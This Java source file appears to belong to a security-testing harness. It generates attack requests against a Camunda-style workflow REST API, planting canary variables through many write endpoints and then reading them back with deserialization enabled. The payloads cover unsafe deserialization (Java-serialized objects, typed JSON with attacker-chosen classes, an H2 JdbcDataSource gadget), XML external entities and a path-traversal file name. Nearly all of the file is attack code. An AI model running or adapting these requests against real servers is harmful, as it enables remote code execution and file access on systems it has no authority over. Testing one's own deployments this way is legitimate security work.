package dev.tandem.system.attack;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

/** Variables that name classes and formats, at every door that takes variables, and the doors by which somebody reads them afterwards. */
final class TypedVariables {

    /** Who may write to the task or to anything try all values, the others some. */
    private static final List<String> WRITERS = List.of("fred", "admin");
    private static final List<String> FORMATS = List.of("application/json", "application/x-java-serialized-object", "application/xml");

    private final Payloads payloads;
    private final Map<String, String> ids;

    TypedVariables(Payloads payloads, Map<String, String> ids) {
        this.payloads = payloads;
        this.ids = ids;
    }

    /** @return first the requests that write the values, then those that read them */
    List<Attempt> attempts(String account) {
        List<Attempt> attempts = new ArrayList<>();
        List<Map<String, Object>> values = values();
        for (int i = 0; i < values.size(); i++) {
            if (WRITERS.contains(account) || i % Accounts.NAMES.size() == Accounts.NAMES.indexOf(account)) {
                attempts.addAll(writing("canary" + i, values.get(i)));
            }
        }
        attempts.addAll(reading());
        return attempts;
    }

    private List<Map<String, Object>> values() {
        List<Map<String, Object>> values = new ArrayList<>();
        for (Payloads.TypedJson object : payloads.objects()) {
            for (String format : FORMATS) {
                String value = format.contains("java") ? base64(object.value()) : object.value();
                values.add(Map.of("type", "Object", "value", value, "valueInfo", Map.of("objectTypeName", object.type(), "serializationDataFormat", format)));
            }
            values.add(Map.of("type", "Json", "value", object.value()));
        }
        values.add(Map.of("type", "Object", "value", payloads.objects().get(0).value(), "valueInfo", Map.of("serializationDataFormat", "application/json")));
        values.add(Map.of("type", "Object", "value", Map.of("@class", "org.h2.jdbcx.JdbcDataSource", "url", payloads.urlThatWrites("'"))));
        values.add(Map.of("value", List.of("org.h2.jdbcx.JdbcDataSource", Map.of("url", payloads.urlThatWrites("'")))));
        values.add(Map.of("type", "Xml", "value", payloads.externalEntity()));
        values.add(Map.of("type", "File", "value", base64("x"), "valueInfo", Map.of("filename", "../../../x", "mimetype", "text/html", "encoding", "no-such")));
        values.add(Map.of("type", "Bytes", "value", base64("x")));
        values.add(Map.of("type", payloads.texts().get(0), "value", "x"));
        values.add(Map.of("type", "Null", "value", payloads.texts().get(0)));
        return values;
    }

    private List<Attempt> writing(String name, Map<String, Object> value) {
        String task = "/engine-rest/task/" + ids.get("/task");
        String instance = "/engine-rest/process-instance/" + ids.get("/process-instance");
        String execution = "/engine-rest/execution/" + ids.get("/process-instance");
        Map<String, Object> variables = Map.of(name, value);
        List<Attempt> attempts = new ArrayList<>();
        for (String place : List.of(task + "/variables", task + "/localVariables", instance + "/variables", execution + "/localVariables")) {
            attempts.add(Attempt.json("PUT", place + "/" + name, value));
            attempts.add(Attempt.json("POST", place, Map.of("modifications", variables)));
        }
        attempts.add(Attempt.file("POST", task + "/variables/" + name + "/data", "data", "a.json", String.valueOf(value.get("value")).getBytes(StandardCharsets.UTF_8)));
        for (String door : List.of("/complete", "/submit-form", "/resolve", "/bpmnError", "/bpmnEscalation")) {
            attempts.add(Attempt.json("POST", task + door, Map.of("variables", Map.of("reply", value, "intent", value), "errorCode", "x", "escalationCode", "x")));
        }
        attempts.add(Attempt.json("POST", "/engine-rest/process-definition/key/ticket-triage/start", Map.of("variables", Map.of("body", value, name, value))));
        attempts.add(Attempt.json("POST", "/engine-rest/process-definition/key/ticket-triage/submit-form", Map.of("variables", variables)));
        attempts.add(Attempt.json("POST", "/engine-rest/message", Map.of("messageName", "x", "processVariables", variables, "correlationKeys", variables)));
        attempts.add(Attempt.json("POST", "/engine-rest/signal", Map.of("name", "x", "variables", variables)));
        attempts.add(Attempt.json("POST", "/engine-rest/condition", Map.of("variables", variables)));
        attempts.add(Attempt.json("POST", "/engine-rest/decision-definition/key/routing-policy/evaluate", Map.of("variables", Map.of("intent", value))));
        attempts.add(Attempt.json("POST", "/engine-rest/external-task/x/complete", Map.of("workerId", "x", "variables", variables)));
        Map<String, Object> query = new HashMap<>(value);
        query.keySet().retainAll(List.of("value"));
        query.put("name", name);
        query.put("operator", "eq");
        attempts.add(Attempt.json("POST", "/engine-rest/task", Map.of("processVariables", List.of(query))));
        return attempts;
    }

    List<Attempt> reading() {
        String task = "/engine-rest/task/" + ids.get("/task");
        return List.of(task + "/variables", task + "/localVariables?deserializeValues=true", task + "/form-variables", task + "/rendered-form", task + "/form",
                "/engine-rest/process-instance/" + ids.get("/process-instance") + "/variables?deserializeValues=true", "/engine-rest/variable-instance?deserializeValues=true",
                "/engine-rest/history/variable-instance?deserializeValues=true", "/engine-rest/history/detail?deserializeValues=true",
                "/engine-rest/decision-instance", "/engine-rest/history/decision-instance?includeInputs=true&includeOutputs=true",
                "/engine-rest/process-definition/key/ticket-triage/form-variables")
                .stream().map(path -> Attempt.without("GET", path)).toList();
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }
}
